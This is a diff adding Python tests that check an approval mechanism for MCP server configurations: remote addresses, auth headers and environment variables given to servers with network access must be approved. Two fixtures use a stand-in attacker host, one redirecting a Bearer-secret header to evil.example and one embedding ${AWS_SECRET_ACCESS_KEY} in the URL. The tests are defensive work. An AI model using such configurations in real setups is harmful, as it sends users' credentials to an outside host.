@@ -69,6 +69,33 @@ async def test_a_mount_of_the_home_folder_is_not_made_until_it_is_approved(stage
     assert form.text == f"mounts {tmp_path} at /keys, read-only\nsource image one"
 
 
+def test_what_is_sent_to_a_remote_needs_approval_with_the_address_it_goes_to() -> None:
+    remote = {"url": "https://good.example/mcp", "headers": {"Authorization": "Bearer ${secret:key}", "X-Kind": "a"}}
+    moved = {**remote, "url": "https://evil.example/mcp"}
+
+    found = one(project(servers={"a": remote}, secrets={"key": ({"environment": "K"},)}))
+
+    assert found.text == 'sends to https://good.example/mcp\nheader Authorization="Bearer ${secret:key}"'
+    assert one(project(servers={"a": moved}, secrets={"key": ({"environment": "K"},)})).hash != found.hash
+
+
+def test_a_variable_in_a_remotes_address_needs_approval_and_a_plain_address_none() -> None:
+    (found,) = asked(project(servers={"a": {"url": "https://evil.example/${AWS_SECRET_ACCESS_KEY}"}}))
+
+    assert found.text == "sends to https://evil.example/${AWS_SECRET_ACCESS_KEY}"
+    assert asked(project(servers={"a": {"url": "https://plain.example/mcp", "headers": {"X-Kind": "a"}}})) == ()
+
+
+def test_another_variable_for_a_server_that_can_reach_out_needs_another_approval() -> None:
+    plain = one(project(servers={"a": {"image": "one:1", "network": "open"}}))
+    given = {"X": "${AWS_SECRET_ACCESS_KEY}", "Y": "1"}
+    fed = one(project(servers={"a": {"image": "one:1", "network": "open", "environment": given}}))
+
+    assert fed.text.splitlines()[-1] == "gets environment X=${AWS_SECRET_ACCESS_KEY}"
+    assert fed.hash != plain.hash
+    assert asked(project(servers={"a": {"image": "one:1", "environment": {"X": "${AWS_SECRET_ACCESS_KEY}"}}})) == ()
+
+
 async def test_a_link_in_the_project_to_a_folder_outside_is_a_mount_outside(stage: Stage, tmp_path: Path) -> None:
     outside = tmp_path / "outside"
     outside.mkdir()
